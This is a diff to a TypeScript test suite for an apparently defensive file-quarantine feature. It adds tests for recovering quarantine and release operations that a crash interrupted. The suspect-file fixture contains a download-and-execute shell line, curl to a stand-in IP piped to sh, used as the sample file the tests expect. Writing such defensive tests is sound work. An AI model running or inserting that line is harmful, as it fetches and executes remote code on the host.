@@ -85,6 +85,46 @@ function quarantineCases(dataParent: string) {
     expect(await dispatchAsync(ctx, 'quarantine.release', { id: entry.id })).toMatchObject({ ok: true });
     expect([fs.readFileSync(suspect, 'utf8'), mode(suspect)]).toEqual(['#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', 0o750]);
   });
+
+  /** What a crash leaves: the intent row written before a move, and the file wherever the move got to. */
+  function interrupted(state: 'moving-in' | 'moving-out', fileAt: 'home' | 'quarantine', partialCopy = false): { id: string; stored: string } {
+    const id = 'Q-0000abcd';
+    const stored = path.join(quarantineFolder(ctx), id, 'dropper.sh');
+    fs.mkdirSync(path.dirname(stored), { recursive: true });
+    if (fileAt === 'quarantine') {
+      fs.copyFileSync(suspect, stored);
+      fs.rmSync(suspect);
+    }
+    if (partialCopy) fs.writeFileSync(path.join(path.dirname(stored), '.dropper.sh.tmp-1'), '#!/bin/sh\ncu');
+    ctx.db
+      .prepare("INSERT INTO quarantine (id, incident_id, original_path, stored_path, sha256, size, mode, quarantined_at, quarantined_by, state) VALUES (?, NULL, ?, ?, ?, ?, ?, '2026-11-30T04:00:00.000Z', 'ana', ?)")
+      .run(id, suspect, stored, 'f'.repeat(64), 42, 0o100750, state);
+    return { id, stored };
+  }
+  const listAll = async () => ((await dispatchAsync(ctx, 'quarantine.list', { includeReleased: true })) as { value: { files: QuarantinedFile[] } }).value.files;
+
+  it('finishes a quarantine a crash interrupted after the file left home: held, locked down, recorded', async () => {
+    const { id, stored } = interrupted('moving-in', 'quarantine');
+    expect(await listAll()).toEqual([expect.objectContaining({ id, state: 'held', storedPath: stored, releasedAt: null })]);
+    expect(mode(stored)).toBe(0o000);
+    expect(fs.existsSync(suspect)).toBe(false);
+  });
+
+  it('marks a quarantine a crash interrupted before the file left home as not moved, and removes the partial copy', async () => {
+    const { id } = interrupted('moving-in', 'home', true);
+    expect(await listAll()).toEqual([expect.objectContaining({ id, state: 'not-moved' })]);
+    expect([fs.readFileSync(suspect, 'utf8'), mode(suspect)]).toEqual(['#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', 0o750]);
+    expect(leftInQuarantine(ctx)).toEqual([]);
+    // Not in quarantine, so not releasable: the error says where the file is.
+    expect(await dispatchAsync(ctx, 'quarantine.release', { id })).toMatchObject({ ok: false, error: { code: 'conflict', message: expect.stringContaining(`still at ${suspect}`) } });
+  });
+
+  it('records a release a crash interrupted after the file went home, with its mode', async () => {
+    const { id } = interrupted('moving-out', 'home');
+    expect(await listAll()).toEqual([expect.objectContaining({ id, state: 'released', releasedAt: expect.any(String) })]);
+    expect(mode(suspect)).toBe(0o750);
+    expect(leftInQuarantine(ctx)).toEqual([]);
+  });
 }
 
 describe('quarantine on one file system', () => {
